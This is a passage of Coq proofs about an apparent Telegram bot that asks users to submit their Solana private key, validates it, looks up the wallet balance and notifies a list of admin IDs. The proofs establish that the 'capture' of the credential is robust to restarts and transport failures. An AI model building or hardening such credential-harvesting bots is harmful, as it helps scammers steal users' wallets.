      | |- keeps _ (if ?b then _ else _) => destruct b
      | |- keeps _ (let '(_, _) := ?p in _) => destruct p
      | |- keeps _ (match ?u with Some _ => _ | None => _ end) => destruct u
      end ].

Section OtherEntries.

Context `{Base58Lib} `{NaclLib} `{Builtins}.
Variable E : env.
Variable cfg : config.

Lemma get_solana_balance_keeps key private_key :
  keeps key (get_solana_balance E private_key).
Proof.
  intros s; unfold get_solana_balance.
  destruct (get_solana_balance_async_total E private_key s)
    as (out & evs & -> & _); reflexivity.
Qed.

(** X6.  Each handler writes at most its own flag: [show_main_menu],
    [handle_messages] and [error_handler] change no entry of [user_data];
    [start_command] changes none but [has_seen_welcome]; [button_callback]
    and [handle_private_key] change none but [awaiting_private_key].  In
    particular [/start] in the middle of a capture leaves the session
    waiting for the credential. *)
Theorem handlers_keep_other_entries (key : string) (s : state) :
  (forall u,
     user_data (snd (show_main_menu E cfg u s)) !! key = user_data s !! key)
  /\ (forall u,
        user_data (snd (handle_messages E u s)) !! key = user_data s !! key)
  /\ (forall u,
        user_data (snd (error_handler E u s)) !! key = user_data s !! key)
  /\ (key <> "has_seen_welcome" ->
      forall u,
        user_data (snd (start_command E cfg u s)) !! key = user_data s !! key)
  /\ (key <> "awaiting_private_key" ->
      (forall q,
         user_data (snd (button_callback E cfg q s)) !! key
         = user_data s !! key)
      /\ (forall u,
            user_data (snd (handle_private_key E cfg u s)) !! key
            = user_data s !! key)).
Proof.
  assert (forall u, keeps key (show_main_menu E cfg u)) as Hmenu
    by (intros u; unfold show_main_menu; keeps_steps).
  split; [intros u; apply Hmenu|].
  split; [intros u; revert s; change (keeps key (handle_messages E u));
          unfold handle_messages; keeps_steps|].
  split; [intros u; revert s; change (keeps key (error_handler E u));
          unfold error_handler; keeps_steps|].
  split.
  - intros Hkey u; revert s; change (keeps key (start_command E cfg u)).
    unfold start_command; cbv zeta.
    apply keeps_try; [|intros e; keeps_steps].
    apply keeps_bind; [apply keeps_get|intros seen].
    destruct (negb seen); [keeps_steps|apply Hmenu].
  - intros Hkey; split.
    + intros q; revert s; change (keeps key (button_callback E cfg q)).
      unfold button_callback; cbv zeta; keeps_steps.
    + intros u; revert s; change (keeps key (handle_private_key E cfg u)).
      unfold handle_private_key; cbv zeta.
      apply keeps_bind; [apply keeps_get|intros a].
      destruct (negb a); [apply keeps_ret|].
      destruct (negb (truthy _)); [keeps_steps|].
      apply keeps_try; [|intros e; keeps_steps].
      destruct (negb (validate_private_key _)); [keeps_steps|].
      apply keeps_bind; [apply get_solana_balance_keeps|intros [b p]].
      keeps_steps.
Qed.

End OtherEntries.

Lemma handlers_keep_other_entries_witness :
  awaiting (snd (start_command (delivering (Raise timed_out)) example_config
                   (text_update "/start") (session true))).
Proof.
  unfold awaiting.
  rewrite (proj1 (proj2 (proj2 (proj2
             (handlers_keep_other_entries (H:=base58_package)
                (H0:=nacl_stand_in) (H1:=builtins_ascii)
                (delivering (Raise timed_out)) example_config
                "awaiting_private_key" (session true)))))
             ltac:(discriminate) (text_update "/start")).
  reflexivity.
Defined.

(** ** [show_main_menu] and [start_command] under transport failures *)

Section MainMenu.

Variable E : env.
Variable cfg : config.

Lemma show_main_menu_run u s :
  let prompt := reply_text connect_prompt None in
  let s1 := after_call E s prompt in
  let err := reply_text error_reply None in
  show_main_menu E cfg u s
  = match outcome E s prompt with
    | Raise _ => (then_return (outcome E s1 err) tt, after_call E s1 err)
    | Ok welcome_msg =>
        let s2 :=
          after_call E s1 (pin_chat_message (effective_chat_id u) welcome_msg) in
        let s3 := after_call E s2 (main_menu_reply cfg) in
        match outcome E s2 (main_menu_reply cfg) with
        | Ok _ => (Ok tt, s3)
        | Raise _ => (then_return (outcome E s3 err) tt, after_call E s3 err)
        end
    end.
Proof.
  intros prompt s1 err; unfold show_main_menu.
  change (create_keyboard main_menu_buttons 2) with (Ok main_menu_markup).
  fold prompt err (main_menu_reply cfg).
  destruct (outcome E s prompt) as [i|e] eqn:Hp.
  - rewrite (try_bind_ok _ _ _ s i s1) by (rewrite call_eq, Hp; reflexivity).
    rewrite (try_bind_ok _ _ _ _ _ _ (call_swallowed E _ s1)).
    rewrite (try_bind_ok _ _ _ _ main_menu_markup _ eq_refl).
    cbv zeta; fold (main_menu_reply cfg).
    set (s2 := after_call E s1 (pin_chat_message (effective_chat_id u) i)).
    destruct (outcome E s2 (main_menu_reply cfg)) as [j|e] eqn:Hm.
    + rewrite (try_bind_ok _ _ _ s2 j (after_call E s2 (main_menu_reply cfg)))
        by (rewrite call_eq, Hm; reflexivity).
      reflexivity.
    + rewrite (try_bind_raise _ _ _ s2 e
                 (after_call E s2 (main_menu_reply cfg)))
        by (rewrite call_eq, Hm; reflexivity).
      unfold mbind, M_bind; rewrite call_eq.
      destruct (outcome E _ err); reflexivity.
  - rewrite (try_bind_raise _ _ _ s e s1)
      by (rewrite call_eq, Hp; reflexivity).
    unfold mbind, M_bind; rewrite call_eq.
    destruct (outcome E s1 err); reflexivity.
Qed.

(** X7.  [show_main_menu] does not depend on the pin: when the prompt and
    the menu are delivered it returns after exactly three calls (prompt,
    pin of the prompt's message, menu) whether or not the pin was
    delivered.  When the prompt is not delivered, nothing is pinned and
    no menu is sent: the only other call is the generic error reply. *)
Theorem show_main_menu_survives_pin_failure (u : update) (s : state) :
  let prompt := reply_text connect_prompt None in
  let s' := snd (show_main_menu E cfg u s) in
  (forall welcome_msg,
     outcome E s prompt = Ok welcome_msg ->
     let pin := pin_chat_message (effective_chat_id u) welcome_msg in
     is_ok (outcome E (after_call E (after_call E s prompt) pin)
                    (main_menu_reply cfg)) = true ->
     fst (show_main_menu E cfg u s) = Ok tt
     /\ tg_calls (new_events s s') = [prompt; pin; main_menu_reply cfg])
  /\ (is_ok (outcome E s prompt) = false ->
      tg_calls (new_events s s') = [prompt; reply_text error_reply None]).
Proof.
  intros prompt s'; unfold s'; rewrite (show_main_menu_run u s).
  cbv zeta; fold prompt; split.
  - intros welcome_msg Hp Hmenu; rewrite Hp.
    destruct (outcome E _ (main_menu_reply cfg)); [|discriminate].
    split; [reflexivity|cbn [snd]].
    unfold after_call; rewrite !logged_logged, new_events_logged.
    reflexivity.
  - intros Hp; destruct (outcome E s prompt); [discriminate|cbn [snd]].
    unfold after_call; rewrite !logged_logged, new_events_logged.
    reflexivity.
Qed.

(** X8.  When the intro cannot be delivered to a session that has not
    seen it, [start_command] does not set [has_seen_welcome]: [user_data]
    is unchanged, the generic error reply is attempted, and the next
    [/start] will try the intro again. *)
Theorem undelivered_intro_is_retried (u : update) (s : state) :
  seen_welcome s = false ->
  is_ok (outcome E s (intro_reply cfg)) = false ->
  let s' := snd (start_command E cfg u s) in
  user_data s' = user_data s
  /\ seen_welcome s' = false
  /\ tg_calls (new_events s s')
     = [intro_reply cfg; reply_text error_reply None]
  /\ forall u',
       exists tail,
         new_events s' (snd (start_command E cfg u' s'))
         = Tg (intro_reply cfg) (outcome E s' (intro_reply cfg)) :: tail.
Proof.
  intros Hseen Hintro s'.
  assert (forall u0 s0,
            seen_welcome s0 = false ->
            exists tail,
              new_events s0 (snd (start_command E cfg u0 s0))
              = Tg (intro_reply cfg) (outcome E s0 (intro_reply cfg)) :: tail)
    as Hfirst.
  { intros u0 s0 H0; rewrite (start_command_unseen E cfg u0 s0 H0).
    destruct (outcome E s0 (intro_reply cfg)) as [i|e] eqn:Ho; cbn [snd].
    - exists []; unfold with_flag, new_events, after_call, logged.
      cbn [log]; rewrite drop_app_length, Ho; reflexivity.
    - eexists; rewrite after_call_twice, new_events_logged, Ho; reflexivity. }
  assert (user_data s' = user_data s) as Hud.
  { unfold s'; rewrite (start_command_unseen E cfg u s Hseen).
    destruct (outcome E s (intro_reply cfg)); [discriminate|reflexivity]. }
  split; [exact Hud|].
  assert (seen_welcome s' = false) as Hseen'
    by (unfold seen_welcome in *; rewrite Hud; exact Hseen).
  split; [exact Hseen'|split].
  - unfold s'; rewrite (start_command_unseen E cfg u s Hseen).
    destruct (outcome E s (intro_reply cfg)); [discriminate|cbn [snd]].
    unfold after_call; rewrite !logged_logged, new_events_logged.
    reflexivity.
  - intros u'; apply Hfirst, Hseen'.
Qed.

End MainMenu.

Lemma show_main_menu_survives_pin_failure_witness :
  tg_calls (log (snd (show_main_menu
                        {| telegram := fun _ c =>
                             match c with
                             | pin_chat_message _ _ => Raise forbidden
                             | _ => Ok 7
                             end;
                           httpx_post := fun _ _ => Raise timed_out |}
                        example_config (text_update "/start") fresh_session)))
  = [ reply_text connect_prompt None; pin_chat_message 42 7;
      main_menu_reply example_config ].
Proof.
  apply (proj1 (show_main_menu_survives_pin_failure _ example_config
                  (text_update "/start") fresh_session) 7);
    reflexivity.
Defined.

Lemma undelivered_intro_is_retried_witness :
  seen_welcome
    (snd (start_command
            (dropping_reply (first_time_message "https://telegram.org")
                            (Raise timed_out))
            example_config (text_update "/start") fresh_session))
  = false.
Proof.
  apply (undelivered_intro_is_retried
           (dropping_reply (first_time_message "https://telegram.org")
                           (Raise timed_out))
           example_config (text_update "/start") fresh_session);
    vm_compute; reflexivity.
Defined.

(** ** The lookup, completed *)

Section LookupMore.

Context `{Base58Lib} `{NaclLib} `{Builtins}.
Variable E : env.

Lemma decoded_length_cases (decoded : list byte) :
  (length decoded = 64%nat \/ length decoded = 32%nat)
  \/ ((length decoded =? 64)%nat = false /\ (length decoded =? 32)%nat = false).
Proof.
  destruct (length decoded =? 64)%nat eqn:H64;
    [apply Nat.eqb_eq in H64; auto|].
  destruct (length decoded =? 32)%nat eqn:H32;
    [apply Nat.eqb_eq in H32; auto|auto].
Qed.

(** A returned balance comes from a 200 answer with a [result.value]. *)
Lemma lookup_with_seed_balance seed s b p :
  length seed = 32%nat ->
  fst (try_except (lookup_with_seed E seed) lookup_handler s) = Ok (Some b, p) ->
  exists resp m r lamports,
    httpx_post E (log s) (balance_request (public_id seed)) = Ok resp
    /\ status_code resp = 200
    /\ body resp = Ok (JObj m)
    /\ m !! "result" = Some (JObj r)
    /\ r !! "value" = Some lamports
    /\ py_truediv lamports 1000000000 = Ok b
    /\ p = public_id seed.
Proof.
  intros Hseed; unfold lookup_with_seed, SigningKey_verify_key.
  rewrite Hseed; simpl; unfold_M; fold (public_id seed).
  destruct (httpx_post E (log s) _) as [resp|e] eqn:Hpost; [|discriminate].
  destruct (status_code resp =? 200) eqn:Hst; [|discriminate].
  apply Z.eqb_eq in Hst.
  destruct (body resp) as [data|e] eqn:Hbody; [|discriminate].
  destruct data as [|t|n|x|t|l|m]; simpl; try discriminate.
  - destruct (contains "result" t); simpl; discriminate.
  - destruct (existsb _ l); simpl; discriminate.
  - destruct (m !! "result") as [res|] eqn:Hm.
    + rewrite bool_decide_eq_true_2 by eauto; simpl.
      destruct res as [|t|n|x|t|l|r]; simpl; try discriminate.
      * destruct (contains "value" t); simpl; [discriminate|].
        destruct (m !! "error"); discriminate.
      * destruct (existsb _ l); simpl; [discriminate|].
        destruct (m !! "error"); discriminate.
      * destruct (r !! "value") as [lamports|] eqn:Hv.
        -- rewrite bool_decide_eq_true_2 by eauto; simpl.
           destruct (py_truediv lamports 1000000000) as [x|e] eqn:Hdiv;
             [|discriminate].
           intros [= <- <-]; exists resp, m, r, lamports; auto 10.
        -- rewrite bool_decide_eq_false_2 by (intros [? ?]; discriminate).
           simpl; destruct (m !! "error"); discriminate.
    + rewrite bool_decide_eq_false_2 by (intros [? ?]; discriminate).
      simpl; destruct (m !! "error"); discriminate.
Qed.

(** X9.  The lookup returns a balance exactly when the credential decodes
    to 32 or 64 bytes, the endpoint answers 200 with a JSON object whose
    [result] is an object with a [value], and that value divides by
    [10^9] (it is an [int], a [bool] or a [float]); the balance is then
    the quotient and the second component is the public identifier of the
    seed.  The lookup returns a pair in every case, so in every other
    case the first component is [None]. *)
Theorem balance_reported_iff private_key s b p :
  (fst (get_solana_balance_async E private_key s) = Ok (Some b, p)
   <-> exists decoded resp m r lamports,
         b58decode private_key = Ok decoded
         /\ (length decoded = 64%nat \/ length decoded = 32%nat)
         /\ httpx_post E (log s)
              (balance_request (public_id (take 32 decoded))) = Ok resp
         /\ status_code resp = 200
         /\ body resp = Ok (JObj m)
         /\ m !! "result" = Some (JObj r)
         /\ r !! "value" = Some lamports
         /\ py_truediv lamports 1000000000 = Ok b
         /\ p = public_id (take 32 decoded))
  /\ exists balance text,
       fst (get_solana_balance_async E private_key s) = Ok (balance, text).
Proof.
  split; [|destruct (get_solana_balance_async_total E private_key s)
             as ([balance text] & evs & Htotal & _);
           exists balance, text; rewrite Htotal; reflexivity].
  split.
  - destruct (b58decode private_key) as [decoded|e] eqn:Hdec.
    + destruct (decoded_length_cases decoded) as [Hlen|[H64 H32]].
      * rewrite (get_solana_balance_async_seed E _ _ s Hdec Hlen).
        intros Hret.
        destruct (lookup_with_seed_balance _ s b p (length_take_32 _ Hlen) Hret)
          as (resp & m & r & lamports & Hrest).
        exists decoded, resp, m, r, lamports; auto.
      * unfold get_solana_balance_async; unfold_M.
        rewrite Hdec, H64, H32; discriminate.
    + unfold get_solana_balance_async; unfold_M; rewrite Hdec; discriminate.
  - intros (decoded & resp & m & r & lamports & Hdec & Hlen & Hpost & Hst
            & Hbody & Hm & Hv & Hdiv & ->).
    rewrite (get_solana_balance_async_seed E _ _ s Hdec Hlen).
    rewrite (lookup_value E _ s (length_take_32 _ Hlen) _ _ _ _
               Hpost Hst Hbody Hm Hv).
    simpl; rewrite Hdiv; reflexivity.
Qed.

(** X10.  The lookup posts a request exactly when [validate_private_key]
    accepts the credential: on a rejected credential it returns an error
    pair without any interaction, on an accepted one its only interaction
    is the single request for the public identifier of the seed. *)
Theorem lookup_posts_iff_valid private_key s :
  (validate_private_key private_key = false ->
   snd (get_solana_balance_async E private_key s) = s
   /\ exists msg,
        fst (get_solana_balance_async E private_key s) = Ok (None, msg))
  /\ (validate_private_key private_key = true ->
      exists decoded r,
        b58decode private_key = Ok decoded
        /\ new_events s (snd (get_solana_balance_async E private_key s))
           = [Post (balance_request (public_id (take 32 decoded))) r]).
Proof.
  unfold validate_private_key; split.
  - destruct (b58decode private_key) as [decoded|e] eqn:Hdec.
    + intros Hrej; apply orb_false_elim in Hrej as [H32 H64].
      apply bool_decide_eq_false in H32, H64.
      unfold get_solana_balance_async; unfold_M; rewrite Hdec.
      rewrite (proj2 (Nat.eqb_neq _ _) H64), (proj2 (Nat.eqb_neq _ _) H32).
      split; [reflexivity|eexists; reflexivity].
    + intros _; unfold get_solana_balance_async; unfold_M; rewrite Hdec.
      split; [reflexivity|eexists; reflexivity].
  - destruct (b58decode private_key) as [decoded|e] eqn:Hdec; [|discriminate].
    intros Hok; apply orb_true_iff in Hok.
    assert (length decoded = 64%nat \/ length decoded = 32%nat) as Hlen
      by (destruct Hok as [Hl|Hl]; apply bool_decide_eq_true in Hl; auto).
    exists decoded; eexists; split; [reflexivity|].
    rewrite (get_solana_balance_async_seed E _ _ s Hdec Hlen).
    rewrite (lookup_with_seed_state E _ s (length_take_32 _ Hlen)).
    apply new_events_logged.
Qed.

End LookupMore.

Lemma balance_reported_iff_witness :
  exists b,
    fst (get_solana_balance_async (H:=base58_package) (H0:=nacl_stand_in)
           (H1:=builtins_ascii)
           (delivering
              (ok_json (JObj {[ "result" := JObj {[ "value" := JBool true ]} ]})))
           key64 fresh_session)
    = Ok (Some b, key32)
    /\ format_4f b = "0.0000".
Proof.
  eexists; split.
  - apply (proj2 (proj1 (balance_reported_iff (H:=base58_package)
                           (H0:=nacl_stand_in) (H1:=builtins_ascii) _ key64
                           fresh_session _ key32))).
    exists key64_bytes; eexists; eexists; eexists; eexists.
    split; [reflexivity|split; [left; reflexivity|]].
    split; [reflexivity|split; [reflexivity|split; [reflexivity|]]].
    split; [vm_compute; reflexivity|split; [vm_compute; reflexivity|]].
    split; [vm_compute; reflexivity|reflexivity].
  - vm_compute; reflexivity.
Defined.

Lemma lookup_posts_iff_valid_witness :
  snd (get_solana_balance_async (H:=base58_package) (H0:=nacl_stand_in)
         (H1:=builtins_ascii) (delivering (Raise timed_out))
         "2NEpo7TZRRrLZSi2U" fresh_session)
  = fresh_session.
Proof.
  apply (proj1 (lookup_posts_iff_valid (H:=base58_package)
                  (H0:=nacl_stand_in) (H1:=builtins_ascii)
                  (delivering (Raise timed_out)) "2NEpo7TZRRrLZSi2U"
                  fresh_session)).
  vm_compute; reflexivity.
Defined.

(** ** The two text handlers and the flag *)

Lemma awaiting_flag_true s : awaiting_flag s = true <-> awaiting s.
Proof.
  unfold awaiting_flag, awaiting.
  destruct (user_data s !! "awaiting_private_key") as [[|]|]; simpl;
    split; congruence.
Qed.

Lemma http_requests_admin_log E message admins lg :
  http_requests (admin_log E message admins lg) = [].
Proof.
  revert lg; induction admins as [|a admins IH]; intros lg; [reflexivity|].
  simpl; unfold http_requests in *; simpl; apply IH.
Qed.

Section TextHandlers.

Context `{Base58Lib} `{NaclLib} `{Builtins}.
Variable E : env.
Variable cfg : config.

Lemma handle_private_key_idle u s :
  awaiting_flag s = false -> handle_private_key E cfg u s = (Ok END, s).
Proof.
  intros Hflag; unfold handle_private_key.
  rewrite (bind_ok _ _ s false s)
    by (unfold user_data_get; fold (awaiting_flag s); rewrite Hflag;
        reflexivity).
  reflexivity.
Qed.

(** The outcomes of [handle_private_key] in a waiting session. *)
Lemma handle_private_key_waiting_cases u s :
  awaiting s ->
  let returned := fst (handle_private_key E cfg u s) in
  let s' := snd (handle_private_key E cfg u s) in
  new_events s s' <> []
  /\ ((returned = Ok END
       /\ user_data s' = <["awaiting_private_key" := false]> (user_data s))
      \/ (returned <> Ok END /\ user_data s' = user_data s
          /\ forall v, returned = Ok v -> v = WAITING_FOR_PRIVATE_KEY)).
Proof.
  intros Hw returned s'.
  assert (forall (r : result Z),
            then_return r WAITING_FOR_PRIVATE_KEY <> Ok END
            /\ forall v, then_return r WAITING_FOR_PRIVATE_KEY = Ok v ->
                         v = WAITING_FOR_PRIVATE_KEY) as Hthen
    by (intros [i|e]; simpl; split; try discriminate; congruence).
  destruct (string_dec (strip (message_text u)) "") as [Hempty|Hne].
  - unfold returned, s'; rewrite (handle_private_key_empty E cfg u s Hw Hempty).
    cbv zeta; cbn [fst snd]; unfold after_call; rewrite new_events_logged.
    split; [discriminate|right].
    split; [apply Hthen|split; [reflexivity|apply Hthen]].
  - destruct (validate_private_key (strip (message_text u))) eqn:Hvalid.
    + destruct (get_solana_balance_async_total E (strip (message_text u)) s)
        as (out & evs & Hlookup & _).
      unfold returned, s'.
      rewrite (handle_private_key_valid E cfg u s Hw out _ Hne Hvalid Hlookup).
      cbv zeta; destruct (outcome E _ (reply_text connecting_reply None));
        cbn [fst snd].
      * split; [|left; split; reflexivity].
        unfold with_flag, new_events, after_call, logged; cbn [log].
        rewrite <- !app_assoc, drop_app_length.
        destruct evs; [destruct (admin_log _ _ _ _)|]; discriminate.
      * split; [|right; split; [apply Hthen|split; [reflexivity|apply Hthen]]].
        unfold new_events, after_call, logged; cbn [log].
        rewrite <- !app_assoc, drop_app_length.
        destruct evs; [destruct (admin_log _ _ _ _)|]; discriminate.
    + unfold returned, s'.
      rewrite (handle_private_key_invalid E cfg u s Hw Hne Hvalid).
      cbv zeta; destruct (outcome E s (reply_text invalid_format_reply None));
        cbn [fst snd].
      * unfold after_call; rewrite new_events_logged.
        split; [discriminate|right].
        split; [discriminate|split; [reflexivity|]].
        intros v [= <-]; reflexivity.
      * rewrite after_call_twice, new_events_logged.
        split; [discriminate|right].
        split; [apply Hthen|split; [reflexivity|apply Hthen]].
Qed.

(** X11.  The value [handle_private_key] returns agrees with the flag it
    leaves: it returns only [END] or [WAITING_FOR_PRIVATE_KEY]; after
    [END] the flag is not true, and a further message, whatever its text,
    is answered by [END] with no call, no request and no change; after
    [WAITING_FOR_PRIVATE_KEY] the flag is still true; and when the handler
    raises, [user_data] is unchanged. *)
Theorem return_value_tracks_flag (u : update) (s : state) :
  let returned := fst (handle_private_key E cfg u s) in
  let s' := snd (handle_private_key E cfg u s) in
  (forall v,
     returned = Ok v -> v = END \/ v = WAITING_FOR_PRIVATE_KEY)
  /\ (returned = Ok END ->
      awaiting_flag s' = false
      /\ forall u', handle_private_key E cfg u' s' = (Ok END, s'))
  /\ (returned = Ok WAITING_FOR_PRIVATE_KEY -> awaiting s')
  /\ (forall e, returned = Raise e -> user_data s' = user_data s).
Proof.
  intros returned s'.
  destruct (awaiting_flag s) eqn:Hflag.
  - apply awaiting_flag_true in Hflag.
    destruct (handle_private_key_waiting_cases u s Hflag)
      as (_ & [[Hret Hud]|(Hret & Hud & Hval)]);
      fold returned s' in Hret, Hud.
    + assert (awaiting_flag s' = false) as Hoff
        by (unfold awaiting_flag; rewrite Hud, lookup_insert_eq; reflexivity).
      split; [intros v Hv; left; congruence|].
      split; [intros _; split;
                [exact Hoff|intros u'; apply handle_private_key_idle, Hoff]|].
      split; [rewrite Hret; discriminate|rewrite Hret; discriminate].
    + fold returned in Hval.
      split; [intros v Hv; right; apply Hval, Hv|].
      split; [intros Hend; contradiction|].
      split; [intros _; unfold awaiting; rewrite Hud; exact Hflag|].
      intros e _; exact Hud.
  - unfold returned, s'; rewrite (handle_private_key_idle u s Hflag).
    cbn [fst snd].
    split; [intros v [= <-]; left; reflexivity|].
    split; [intros _; split;
              [exact Hflag|intros u'; apply handle_private_key_idle, Hflag]|].
    split; discriminate.
Qed.

(** X12.  On every text exactly one of the two text handlers acts, and
    the flag decides which.  Outside a capture [handle_private_key]
    returns [END] without any effect and [handle_messages] attempts the
    no-funds reply; during a capture [handle_messages] does nothing at
    all and [handle_private_key] makes at least one call or request. *)
Theorem texts_get_one_handler (u : update) (s : state) :
  (awaiting_flag s = false ->
   handle_private_key E cfg u s = (Ok END, s)
   /\ new_events s (snd (handle_messages E u s))
      = [Tg (reply_text no_funds None)
            (outcome E s (reply_text no_funds None))])
  /\ (awaiting_flag s = true ->
      handle_messages E u s = (Ok tt, s)
      /\ new_events s (snd (handle_private_key E cfg u s)) <> []).
Proof.
  split; intros Hflag.
  - split; [apply handle_private_key_idle, Hflag|].
    unfold handle_messages.
    rewrite (bind_ok _ _ s false s)
      by (unfold user_data_get; fold (awaiting_flag s); rewrite Hflag;
          reflexivity).
    cbn [negb]; unfold mbind, M_bind; rewrite call_eq.
    destruct (outcome E s (reply_text no_funds None)) eqn:Ho;
      unfold mret, M_ret; cbn [snd]; unfold after_call;
      rewrite new_events_logged, Ho; reflexivity.
  - split.
    + unfold handle_messages.
      rewrite (bind_ok _ _ s true s)
        by (unfold user_data_get; fold (awaiting_flag s); rewrite Hflag;
            reflexivity).
      reflexivity.
    + apply awaiting_flag_true in Hflag.
      apply (handle_private_key_waiting_cases u s Hflag).
Qed.

End TextHandlers.

Lemma return_value_tracks_flag_witness :
  awaiting_flag
    (snd (handle_private_key (H:=base58_package) (H0:=nacl_stand_in)
            (H1:=builtins_ascii) (delivering (Raise timed_out)) example_config
            (text_update key32) (session true)))
  = false.
Proof.
  apply (proj1 (proj2 (return_value_tracks_flag (H:=base58_package)
                         (H0:=nacl_stand_in) (H1:=builtins_ascii)
                         (delivering (Raise timed_out)) example_config
                         (text_update key32) (session true)))).
  vm_compute; reflexivity.
Defined.

Lemma texts_get_one_handler_witness :
  handle_private_key (H:=base58_package) (H0:=nacl_stand_in)
    (H1:=builtins_ascii) (delivering (Raise timed_out)) example_config
    (text_update key32) fresh_session
  = (Ok END, fresh_session)
  /\ handle_messages (delivering (Raise timed_out)) (text_update key32)
       (session true)
     = (Ok tt, session true).
Proof.
  split.
  - apply (proj1 (texts_get_one_handler (H:=base58_package)
                    (H0:=nacl_stand_in) (H1:=builtins_ascii)
                    (delivering (Raise timed_out)) example_config
                    (text_update key32) fresh_session)).
    reflexivity.
  - apply (proj2 (texts_get_one_handler (H:=base58_package)
                    (H0:=nacl_stand_in) (H1:=builtins_ascii)
                    (delivering (Raise timed_out)) example_config
                    (text_update key32) (session true))).
    reflexivity.
Defined.

Section OneRequest.

Context `{Base58Lib} `{NaclLib} `{Builtins}.
Variable E : env.
Variable cfg : config.

(** X13.  On an accepted credential [handle_private_key] posts exactly
    one request, the one for the public identifier of the first 32 bytes
    of the decoded credential, and posts it before any call of the chat
    library: every later event is such a call. *)
Theorem one_request_before_notifications (u : update) (s : state)
    (decoded : list byte) :
  awaiting s ->
  strip (message_text u) <> "" ->
  b58decode (strip (message_text u)) = Ok decoded ->
  length decoded = 32%nat \/ length decoded = 64%nat ->
  let s' := snd (handle_private_key E cfg u s) in
  let q := balance_request (public_id (take 32 decoded)) in
  exists rest,
    new_events s s' = Post q (httpx_post E (log s) q) :: rest
    /\ http_requests rest = []
    /\ http_requests (new_events s s') = [q].
Proof.
  intros Hw Hne Hdec Hlen s' q.
  pose proof (validate_private_key_accepts _ _ Hdec Hlen) as Hvalid.
  assert (length decoded = 64%nat \/ length decoded = 32%nat) as Hlen'
    by tauto.
  assert (get_solana_balance E (strip (message_text u)) s
          = (fst (get_solana_balance E (strip (message_text u)) s),
             logged s [Post q (httpx_post E (log s) q)])) as Hlookup.
  { unfold get_solana_balance.
    rewrite (get_solana_balance_async_seed E _ _ s Hdec Hlen').
    rewrite (surjective_pairing (try_except _ _ s)) at 1.
    rewrite (lookup_with_seed_state E _ s (length_take_32 _ Hlen')).
    reflexivity. }
  destruct (fst (get_solana_balance E (strip (message_text u)) s))
    as [out|e] eqn:Hout.
  - pose proof (handle_private_key_valid E cfg u s Hw out _ Hne Hvalid Hlookup)
      as Hrun.
    cbv zeta in Hrun; unfold s'; rewrite Hrun.
    destruct (outcome E _ (reply_text connecting_reply None)); cbn [snd].
    + change (new_events s (with_flag "awaiting_private_key" false ?x))
        with (new_events s x).
      unfold after_call; rewrite !logged_logged, new_events_logged.
      eexists; split; [reflexivity|].
      unfold http_requests at 1 2; cbn [omap].
      rewrite !omap_app; fold (http_requests (admin_log E (notification u out)
        (ADMIN_ID_LIST cfg) (log (logged s [Post q (httpx_post E (log s) q)])))).
      rewrite http_requests_admin_log; split; reflexivity.
    + unfold after_call; rewrite !logged_logged, new_events_logged.
      eexists; split; [reflexivity|].
      unfold http_requests at 1 2; cbn [omap].
      rewrite !omap_app; fold (http_requests (admin_log E (notification u out)
        (ADMIN_ID_LIST cfg) (log (logged s [Post q (httpx_post E (log s) q)])))).
      rewrite http_requests_admin_log; split; reflexivity.
  - destruct (get_solana_balance_async_total E (strip (message_text u)) s)
      as (out & evs & Htotal & _).
    unfold get_solana_balance in Hout; rewrite Htotal in Hout; discriminate.
Qed.

End OneRequest.

Lemma one_request_before_notifications_witness :
  http_requests
    (log (snd (handle_private_key (H:=base58_package) (H0:=nacl_stand_in)
                 (H1:=builtins_ascii) (blocking [11; 12; 13] (Raise timed_out))
                 example_config (text_update key64) (session true))))
  = [balance_request key32].
Proof.
  destruct (one_request_before_notifications (H:=base58_package)
              (H0:=nacl_stand_in) (H1:=builtins_ascii)
              (blocking [11; 12; 13] (Raise timed_out)) example_config
              (text_update key64) (session true) key64_bytes)
    as (rest & _ & _ & Hq).
  - reflexivity.
  - vm_compute; discriminate.
  - vm_compute; reflexivity.
  - right; reflexivity.
  - exact Hq.
Defined.
